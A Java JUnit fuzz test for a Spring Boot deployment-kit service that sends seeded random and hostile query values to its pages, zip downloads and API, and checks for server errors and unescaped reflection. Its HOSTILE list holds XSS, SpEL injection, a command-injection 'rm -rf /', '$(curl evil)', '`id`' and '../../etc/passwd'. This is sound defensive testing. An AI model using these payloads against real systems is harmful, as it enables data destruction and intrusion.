package io.paasatlas.deploy;

import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockMvcRequestBuilders;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Seeded random and hostile requests to the kit's page, zip and API: none may answer 5xx, no hostile input may come
 * back unescaped in a page, and none may reach a generated file. The seed is fixed, so a failure reproduces.
 */
@SpringBootTest(properties = "catalog.location=data/providers")
@AutoConfigureMockMvc
class DeployFuzzTests {

	static final long SEED = 20261202L;

	static final int REQUESTS = 500;

	static final String[] PATHS = { "/deploy", "/deploy/fly-io.zip", "/deploy/heroku.zip", "/deploy/%s.zip",
			"/api/deploy" };

	static final String[] HOSTILE = { "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "${7*7}",
			"__${T(java.lang.Runtime).getRuntime()}__::x", "app:app\"; rm -rf /; \"", "app:app\nweb: evil",
			"flask-app\n[evil]", "iad\"\n[[vm]]", "$(curl evil)", "`id`", "../../etc/passwd" };

	static final String[] VALUES = { "", " ", "fly-io", "render", "railway", "heroku", "pythonanywhere", "koyeb",
			"3.13", "3.10", "3.9", "2.7", "app:app", "web.main:application", "gunicorn", "waitress", "uwsgi", "512",
			"256", "4096", "-1", "NaN", "iad", "iad,lhr,sin", "iad,iad", "us,eu", "oregon", "us-west2", "eu", "true",
			"false", "yes", "none", "hourly", "daily", "weekly", "monthly", "yearly", "flask-app", "x".repeat(500),
			"😀", "\u0000", "%00", "iad," + "x".repeat(300) };

	@Autowired
	MockMvc mvc;

	@Test
	void noRequestFailsOnTheServerAndNoInputIsReflectedUnescapedOrWrittenIntoAFile() throws Exception {
		Random random = new Random(SEED);
		List<String> failures = new ArrayList<>();
		int kits = 0;
		for (int i = 0; i < REQUESTS && failures.size() < 10; i++) {
			String path = PATHS[random.nextInt(PATHS.length)];
			List<String> injected = new ArrayList<>();
			if (path.contains("%s")) {
				path = path.formatted(random.nextBoolean() ? "no-such" : "render");
			}
			// a real query string, as a browser sends it (the page cache keys on it)
			StringBuilder query = new StringBuilder();
			if (!path.contains(".zip") && random.nextInt(5) > 0) {
				query.append("&provider=").append(VALUES[2 + random.nextInt(6)]);
			}
			int parameters = random.nextInt(7);
			for (int p = 0; p < parameters; p++) {
				String name = DeployForm.PARAMETERS.get(random.nextInt(DeployForm.PARAMETERS.size()));
				String value;
				if (random.nextInt(4) == 0) {
					value = HOSTILE[random.nextInt(HOSTILE.length)];
					injected.add(value);
				}
				else {
					value = VALUES[random.nextInt(VALUES.length)];
				}
				query.append('&').append(name).append('=').append(URLEncoder.encode(value, StandardCharsets.UTF_8));
			}
			URI target = URI.create(path + (query.isEmpty() ? "" : "?" + query.substring(1)));
			String described = target.toString();
			MockHttpServletResponse response = this.mvc.perform(MockMvcRequestBuilders.get(target)).andReturn()
				.getResponse();
			if (response.getStatus() >= 500) {
				failures.add(response.getStatus() + " " + described);
				continue;
			}
			String body = new String(response.getContentAsByteArray(), StandardCharsets.UTF_8);
			if (response.getStatus() == 200 && !"text/html".equals(type(response))) {
				kits++;
			}
			for (String hostile : injected) {
				if (body.contains(hostile) && (response.getStatus() == 200 || hostile.contains("<"))) {
					failures.add("reflected " + hostile + " in " + described);
				}
			}
		}
		assertThat(failures).isEmpty();
		assertThat(kits).as("some requests make kits").isGreaterThan(20);
	}

	private static String type(MockHttpServletResponse response) {
		String type = response.getContentType();
		return (type != null) ? type.split(";")[0] : "";
	}

}
